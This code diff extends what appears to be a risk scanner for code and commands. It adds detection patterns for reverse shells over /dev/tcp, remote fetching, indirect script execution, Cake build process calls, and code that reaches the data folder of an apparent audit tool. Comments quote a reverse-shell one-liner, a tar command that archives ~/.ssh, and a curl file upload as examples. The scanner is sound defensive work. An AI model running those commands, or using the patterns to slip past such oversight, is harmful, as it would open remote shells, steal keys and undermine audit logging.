@@ -79,7 +79,8 @@ _SPACE_JOINED_LIST = re.compile(r"""\[\s*((?:(?:['"][^'"\n]*['"]|[A-Za-z_$][\w$.
 _EMPTY_JOINED_LIST = re.compile(r"""\[\s*((?:(['"])[^'"\n]*\2\s*,\s*)+(['"])[^'"\n]*\3)\s*,?\s*\]\.join\(\s*(['"])\4\s*\)|"""
                                 r"""(['"])\5\.join\(\s*[\[(]\s*((?:(['"])[^'"\n]*\7\s*,\s*)+(['"])[^'"\n]*\8)\s*,?\s*[\])]\s*\)""")
 # A shell wired to a network socket through bash's /dev/tcp (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), held in a literal.
-_SHELL_OVER_TCP = re.compile(r"(?:ba)?sh\s+-i\b[^'\"\n]*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^'\"\n]*0>&1")
+_SHELL_OVER_TCP = re.compile(r"(?:ba)?sh\s+-i\b[^'\"\n]*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^'\"\n]*0>&1|"
+                             r"(?:ba)?sh\s+-i\s*>&\s*\S+\s+0>&1")  # an interactive shell's input and output wired to one place
 # A list of literals joined with nothing between (`Enum.join(["cu", "rl -fsS"])`, Julia's `join([...])`).
 _JOINED_TEXT_LIST = re.compile(r"""(?:\bEnum\.join|(?<![\w.])join)\(\s*\[\s*((?:"[^"\n]*"\s*,\s*)+"[^"\n]*")\s*\]\s*\)""")
 # Kotlin's and Scala's lists of literals joined (`listOf(".local", "share").joinToString("/")`, `Seq(…).mkString("/")`).
@@ -109,7 +110,7 @@ _PASTED_LITERALS = GuardedPattern(re.compile(r"""\bpaste0\(\s*((?:(['"])[^'"]*\2
 _QUOTED_PATH = re.compile(r"""['"]((?:~|/)[^'"\s]*)['"]""")
 _AEGIS_DATA = re.compile(r"\.local[/\\]share[/\\]aegis")
 # The user's data folder found (`XDG_DATA_HOME`, `~/.local/share` in pieces) and AEGIS's name as one of its folders.
-_DATA_HOME = re.compile(r"""XDG_DATA_HOME|\.local[/\\]share|['"]\.local['"]\s*[,/]\s*['"]share['"]""")
+_DATA_HOME = re.compile(r"""XDG_DATA_HOME|\.local[/\\]share|['"]\.local['"](?:\s*[,/]\s*|[\s)]*\)\s*)['"]share['"]""")
 _AEGIS_NAME = re.compile(r"""['"]aegis['"]""", re.I)
 # A glob over the data folders of every program (`~/.local/share/*/audit*.log`) that names an audit log or a policy.
 _AEGIS_BY_GLOB = re.compile(r"\.local[/\\]share[/\\]([^/\\'\"\s]*[*?\[][^/\\'\"\s]*)[/\\][^'\"\s]*(?:audit|polic)", re.I)
@@ -124,8 +125,8 @@ _FETCH = GuardedPattern(re.compile(
     r"\b(?:urlopen|urlretrieve|requests\.(?:get|post)|urllib|http\.client|httpx|fetch\(|https?\.get\(|LWP|open-uri|"
     r"Net::HTTP|URI\.open|getstore|URLSession|Http::|:httpc\.|HTTPoison|get\(['\"]https?:|copy\(\s*['\"]https?:|download\.file|Downloads\.download|\burl\(|(?:read|scan)_\w+\(\s*['\"]https?:|file_get_contents\(\s*['\"]https?:|DownloadString|DownloadFile|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|curl|wget|XMLHTTP|WinHttpRequest)"))
 _RUN_TEXT = GuardedPattern(re.compile(r"(?<![\w.-])(?:exec|eval|compile|Function)\s*[\(\s]|\b(?:Invoke-Expression|iex|instance_eval)\s*[\(\s]|"
-                                      r"(?i:\[scriptblock\]::Create\()|\b(?:include|require)(?:_once)?\s+['\"$]"),  # PHP's include 'x.php'
-                           needs=re.compile(r"exec|eval|compile|Function|Invoke-Expression|iex|instance_eval|include|require|\]::"))
+                                      r"(?i:\[scriptblock\]::Create\(|\.InvokeCommand\.InvokeScript\()|\b(?:include|require)(?:_once)?\s+['\"$]"),  # PHP's include 'x.php'
+                           needs=re.compile(r"exec|eval|compile|Function|Invoke-Expression|iex|instance_eval|include|require|\]::|(?i:InvokeScript)"))
 # What makes a project file's mention of a secret more than data: reading a file named by the secret (or by a
 # variable set to it), sending anything off the machine, or running commands.
 _READS = re.compile(
@@ -353,10 +354,25 @@ def code_risks(code: str, ctx: ActionContext, from_file: bool = False) -> tuple[
                                 "act.code.reverse_shell"))
     risks.append(ActionRisk(ESCALATE, "code", "runs arbitrary inline code", "act.shell.inline_code"))
     commands = [_HOME_INTERPOLATION.sub("~", m.group(2)) for m in _SHELL_CALL.finditer(code)] + _decoded_literals(code)
-    commands += _argv_commands(code) + pipeline_steps(code) + scala_processes(code)
+    commands += _argv_commands(code) + pipeline_steps(code) + scala_processes(code) + cake_processes(code)
     commands += [shlex.join(m2.group(2) for m2 in re.finditer(r"""[rbf]?(['"])((?:(?!\1).)*)\1""", m.group(1)))
                  for m in _NOX_RUN.finditer(code)]
     return risks, commands + [m.group(1) or m.group(2) for m in _PERL_CALL.finditer(code)]
+
+
+# Cake's `StartProcess("tar", new ProcessSettings { Arguments = $"czf a.tgz -C \"{h}\" .ssh" })`: the program and its
+# arguments, a C# interpolation of a name given the home folder written as `~`, of any other name as a variable.
+_CAKE_PROCESS = re.compile(r"""\bStartProcess\(\s*"([^"]+)"\s*,\s*new\s+ProcessSettings\s*\{[^}]*?\bArguments\s*=\s*"""
+                           r'\$?@?"((?:[^"\\\n]|\\.)*)"')
+
+
+def cake_processes(code: str) -> list[str]:
+    if "StartProcess" not in code:
+        return []
+    homes = {m.group(1) for m in re.finditer(r"^[ \t]*(?:var|string)\s+(\w+)\s*=\s*([^;\n]+)", code, re.M)
+             if _HOME_REFERENCE.search(m.group(2))}
+    return [m.group(1) + " " + re.sub(r"\{(\w+)\}", lambda n: "~" if n.group(1) in homes else "$" + n.group(1),
+                                      m.group(2).replace('\\"', '"')) for m in _CAKE_PROCESS.finditer(code)]
 
 
 # Scala's processes: `Seq("curl", "-F", s"f=@${path}", url).!` and `"rm -rf x".!!` run the command they hold.
